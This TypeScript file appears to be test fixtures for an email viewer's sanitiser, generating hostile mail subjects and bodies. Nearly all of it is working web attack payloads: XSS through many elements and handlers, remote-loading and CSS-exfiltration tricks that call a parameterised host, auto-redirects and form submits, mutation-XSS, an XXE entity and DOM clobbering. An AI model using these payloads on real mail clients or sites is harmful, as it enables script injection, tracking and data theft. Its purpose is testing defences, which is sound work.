/** Mail that is built to attack whoever looks at it, in the ways that are published. `elsewhere` is who would be told:
 *  `http://host:port`. Every body ends with the words "the end of the mail", unless it swallows them. */
const END = '<p>the end of the mail</p>'

const run = (elsewhere: string) => `alert(1);top.hit=1;fetch(\`${elsewhere}/ran\`)`

/** For subjects, names and fields: each breaks out of some place where text is put into markup without care. */
export function hostileTexts(elsewhere: string): readonly string[] {
  const script = run(elsewhere)
  return [
    `"><script>${script}</script><img src=x onerror=alert(1)>`,
    `'"--></style></title></textarea></script><svg/onload=alert(1)>`,
    `javascript:alert(1)//<a href=javascript:alert(1) id=root name=location>`,
    `{{constructor.constructor('alert(1)')()}} \${alert(1)} #{alert(1)} <%= alert(1) %>`,
    `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><base href="${elsewhere}/">`,
    `__proto__ constructor <form id=root><input name=attributes> & &lt;img src=x onerror=alert(1)&gt;`,
    'invoice\u202egpj.exe \u2066<math><mi xlink:href="javascript:alert(1)">\u2069',
  ]
}

/** Bodies that act by themselves. Those that change how the rest is read stand alone. */
export function hostileBodies(elsewhere: string): readonly string[] {
  const script = run(elsewhere)
  const data = `data:text/html,<script>${encodeURIComponent(script)}</script>`
  return [
    // Scripts, in every place that runs them.
    `<body onload="${script}"><script>${script}</script><script src="${elsewhere}/s.js"></script>
     <script type="module">${script}</script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${elsewhere}/spec"]}]}</script>
     <img src=x onerror="${script}"><svg onload="${script}"></svg><svg><script>${script}</script></svg>
     <svg><animate onbegin="${script}" attributeName=x dur=1s></svg><svg><set attributeName=onload to="${script}"></svg>
     <details open ontoggle="${script}">x</details><input autofocus onfocus="${script}">
     <video onerror="${script}"><source onerror="${script}"></video><audio src=x onerror="${script}"></audio>
     <marquee onstart="${script}">x</marquee><style onload="${script}"></style><div onanimationstart="${script}" style="animation:x 1s">x</div>
     <style>@keyframes x{}</style><xss contenteditable onbeforeinput="${script}" autofocus tabindex=1 onfocus="${script}">x</xss>
     <math><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>${END}`,
    // Documents within.
    `<iframe srcdoc="<script>parent.${script}</script>"></iframe><iframe src="javascript:${script}"></iframe>
     <iframe src="${elsewhere}/frame"></iframe><iframe src="${data}"></iframe><object data="${data}"></object>
     <object data="${elsewhere}/object"></object><object data="javascript:${script}"></object><embed src="${data}">
     <embed src="${elsewhere}/embed"><svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}"></body></foreignObject></svg>
     <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x"></use></svg>
     <frameset><frame src="${elsewhere}/frameset"></frameset><portal src="${elsewhere}/portal"></portal>${END}`,
    // Whatever loads something.
    `<base href="${elsewhere}/base/"><img src="relative.png"><img src="${elsewhere}/img"><image src="${elsewhere}/image">
     <img srcset="${elsewhere}/1x 1x, ${elsewhere}/2x 2x"><picture><source srcset="${elsewhere}/source"><img src=y></picture>
     <video src="${elsewhere}/video" poster="${elsewhere}/poster" autoplay></video><audio src="${elsewhere}/audio" autoplay></audio>
     <video><track src="${elsewhere}/track" default></video><input type=image src="${elsewhere}/input">
     <table background="${elsewhere}/table"><tr><td background="${elsewhere}/td">x</table><body background="${elsewhere}/body">
     <svg><image href="${elsewhere}/svg"></image><use href="${elsewhere}/use#x"></use><feImage href="${elsewhere}/fe"></svg>
     <a href="x" ping="${elsewhere}/ping">x</a><html manifest="${elsewhere}/manifest"><img src="cid:nobody@x">${END}`,
    `<link rel=stylesheet href="${elsewhere}/css"><link rel=prefetch href="${elsewhere}/prefetch">
     <link rel=preload as=image href="${elsewhere}/preload"><link rel=preconnect href="${elsewhere}">
     <link rel=dns-prefetch href="${elsewhere}"><link rel=icon href="${elsewhere}/icon"><link rel=prerender href="${elsewhere}/prerender">
     <link rel=modulepreload href="${elsewhere}/module"><LINK/REL=preconnect/HREF="${elsewhere}"><link
rel=preconnect href="${elsewhere}"><link rel=manifest href="${elsewhere}/web"><meta http-equiv=link content="<${elsewhere}>;rel=preconnect">
     <meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on>${END}`,
    `<style>@import url("${elsewhere}/import");@import "${elsewhere}/import2";
     @font-face{font-family:f;src:url("${elsewhere}/font")}*{font-family:f;background:url(${elsewhere}/bg);list-style:url(${elsewhere}/list);cursor:url(${elsewhere}/cursor),auto}
     p::before{content:url(${elsewhere}/content)}input[value^=s]{background:url(${elsewhere}/exfiltrated-s)}
     p{border-image:url(${elsewhere}/border);mask:url(${elsewhere}/mask);filter:url(${elsewhere}/filter#x);background:image-set("${elsewhere}/set" 1x)}
     p{behavior:url(${elsewhere}/htc);-moz-binding:url(${elsewhere}/xbl);width:expression(alert(1))}</style>
     <input value=secret><p style="background:url(${elsewhere}/style)">x</p><p style="background:url(javascript:alert(1))">x</p>${END}`,
    // Away from here, without a click.
    `<meta http-equiv=refresh content="0;url=${elsewhere}/refresh">
     <meta http-equiv=refresh content="0;url=javascript:${script}"><form action="${elsewhere}/form" target=_top id=f><input name=a autofocus onfocus="f.submit()"></form>
     <script>top.location='${elsewhere}/top';window.open('${elsewhere}/open');document.forms[0].submit()</script>${END}`,
    // What changes its meaning when it is read twice.
    `<noscript><p title="</noscript><img src=x onerror='${script}'>"></noscript>
     <form><math><mtext></form><form><mglyph><style></math><img src onerror="${script}"></style></form>
     <svg></p><style><a id="</style><img src=x onerror='${script}'>"></style></svg>
     <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">${END}`,
    `<p>the end of the mail</p><!--><img src=x onerror="${script}">--><![CDATA[<img src=x onerror="${script}">]]><?xml version="1.0"?>
     <!DOCTYPE x [<!ENTITY e SYSTEM "${elsewhere}/entity">]>&e;<plaintext><script>${script}</script>`,
  ]
}

/** What leads away when it is clicked; each has an id. */
export function leavingBody(elsewhere: string): string {
  const script = run(elsewhere)
  return `<p><a id=script target=_top href="javascript:${script}">script</a>
    <p><a id=top target=_top href="${elsewhere}/top" ping="${elsewhere}/ping">top</a>
    <p><a id=window target=_blank rel=opener href="${elsewhere}/window">window</a>
    <p><a id=file download href="${elsewhere}/file">file</a>
    <form action="${elsewhere}/form" method=post target=_top><input name=a value=secret><button id=form>form</button></form>
    <p><a id=here href="${elsewhere}/here">here</a>
    <p><a title=">" id=self target=_self href="${elsewhere}/self">self</a>
    <p><svg width=99 height=20><a id=svg href="${elsewhere}/svg"><text y=15>svg</text></a></svg>${END}`
}

/** Elements whose names and ids are those that a page's own scripts look for. */
export function clobberingBody(elsewhere: string): string {
  const names = [
    'root',
    'page',
    'location',
    'document',
    'top',
    'parent',
    'self',
    'fetch',
    'csrfToken',
    'config',
  ]
  const each = names.map(
    (name) =>
      `<form id="${name}" name="${name}"><input name="attributes"><input name="${name}"></form><a id="${name}" name="${name}" href="${elsewhere}/${name}"></a>`,
  )
  return `${each.join('')}<img name=getElementById><img name=querySelector><img name=cookie><form name=body><input name=appendChild></form>${END}`
}
